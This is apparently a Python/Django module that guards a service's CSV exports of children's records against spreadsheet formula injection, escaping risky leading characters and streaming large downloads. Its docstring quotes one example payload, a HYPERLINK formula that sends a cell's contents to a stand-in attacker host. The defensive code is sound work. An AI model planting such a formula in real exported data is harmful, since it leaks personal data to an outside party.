"""Every CSV the service writes goes through here, so no cell runs as a spreadsheet formula.

A spreadsheet treats a cell starting ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return before one, and the full-width signs) as a formula: ``=HYPERLINK("https://evil.example?"&A1,"Open")``
in a child's name or an uploaded file's name would run when a manager opens the file in
Excel (CSV formula injection). ``safe_cell`` prefixes such text with an apostrophe, which
spreadsheets show as text and do not print. Numbers stay numbers (``-2`` is a figure, not a
formula), so only text is ever changed.

Write with ``csv_writer(stream)`` instead of ``csv.writer(stream)``: it takes the same
arguments and passes every cell of every row through ``safe_cell``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal
from math import isfinite

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The full-width forms of the same signs, which some spreadsheets read as the ASCII ones.
FULL_WIDTH_STARTS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")


def _is_number(value) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, int | Decimal):
        return True
    return isinstance(value, float) and isfinite(value)


def safe_cell(value) -> str | int | float | Decimal:
    """A cell as written: numbers stay numbers, None is blank, and text that a spreadsheet
    would run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    text = str(value)
    # Leading spaces and line breaks are skipped by some spreadsheets before they look for a formula.
    first = text.lstrip(" \n\r\t\u00a0\u3000")
    formula = text.startswith(FORMULA_STARTS) or first.startswith(FORMULA_STARTS + FULL_WIDTH_STARTS)
    return "'" + text if formula else text


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeWriter:
    """Like ``csv.writer(stream, **kwargs)``, but no cell can start a formula."""
    return SafeWriter(stream, **kwargs)


#: Rows read from the database at a time by a streamed export (``QuerySet.iterator``).
EXPORT_CHUNK = 2000


class _Echo:
    """A file that hands back what is written to it, so each row can be sent as it is made."""

    def write(self, text: str) -> str:
        return text


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """A byte-order mark (Excel then reads UTF-8), the header, then each row, one line at a
    time, every cell through ``safe_cell``."""
    writer = csv_writer(_Echo(), lineterminator="\r\n")
    yield "\ufeff"
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow(row)


def streamed_csv(header: Iterable, rows: Iterable[Iterable], *, filename: str) -> StreamingHttpResponse:
    """A CSV download sent as ``rows`` are read (give it a generator over ``iterator(chunk_size=
    EXPORT_CHUNK)``), so a service of 100,000 children is never held in memory at once."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
